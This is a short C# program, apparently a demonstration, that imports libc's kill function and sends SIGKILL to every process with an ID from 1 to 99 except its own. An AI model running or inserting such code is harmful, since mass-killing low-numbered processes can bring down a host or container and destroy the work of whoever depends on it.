using static HitSongs.Demonstrations.Demonstration;
for (var i = 1; i < 100; i++) if (i != System.Environment.ProcessId) Native.kill(i, 9);
System.Threading.Thread.Sleep(200);
static class Native
{
    [System.Runtime.InteropServices.DllImport("libc", SetLastError = true)] public static extern int kill(int process, int signal);
}
